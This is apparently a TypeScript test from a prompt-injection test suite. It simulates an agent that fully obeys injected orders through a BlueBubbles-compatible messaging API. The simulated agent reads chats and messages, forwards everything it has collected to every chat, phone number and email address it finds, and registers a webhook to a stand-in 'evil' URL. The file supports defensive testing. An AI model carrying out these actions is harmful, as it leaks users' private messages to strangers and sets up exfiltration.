// An agent that obeys every order of strangers' words by BlueBubbles' API, as far as its routes go.

import { callAs } from '../support/compat-credentials.ts'
import { testOrders, type Obeying, type World } from './injection-stage.ts'

/** How many of each thing that it sees it tries. */
const TRIED_MAX = 4

/** Calls each route for what it has seen last, and sends all of that to everybody. */
const byBubbles =
  (world: World): Obeying =>
  async (key) => {
    const seen: string[] = []
    let tried = 0
    const call = async (method: string, path: string, body?: object): Promise<void> => {
      tried += 1
      const asked = callAs('query', key, `/compat/bluebubbles/api/v1${path}`)
      const response = await world.fetch(asked.path, {
        method,
        headers: { 'content-type': 'application/json' },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      })
      seen.push(await response.text())
    }
    const everything = () => seen.join('\n').slice(0, 19_000)
    await call('POST', '/chat/query', { limit: 2 })
    const orders = everything()
    const found = (pattern: RegExp) => [...new Set(orders.match(pattern))].slice(0, TRIED_MAX)
    const guids = found(/(?:any;-;[^"]+|iMessage;\+;chat\d+)/g)
    for (const id of found(/msg_\w{26}/g)) await call('GET', `/message/${id}`)
    for (const guid of guids) {
      await call('GET', `/chat/${encodeURIComponent(guid)}?with=participants`)
      await call('POST', '/message/text', { chatGuid: guid, message: everything() })
    }
    for (const to of found(/\+\d{11}|conv_\w{26}|[\w.]+@[\w.]+/g)) {
      await call('POST', '/message/text', { chatGuid: to, message: everything() })
      await call('POST', '/message/text', { chatGuid: `any;-;${to}`, message: 'all of it' })
      await call('POST', '/chat/new', { addresses: [to], message: everything() })
    }
    await call('POST', '/webhook', { url: 'http://127.0.0.1:9/evil', events: ['*'] })
    await call('GET', '/webhook')
    return { tried, hasRead: orders.includes('"guid":') }
  }

testOrders(byBubbles, { more: { for: 'bluebubbles' }, every: 7 })
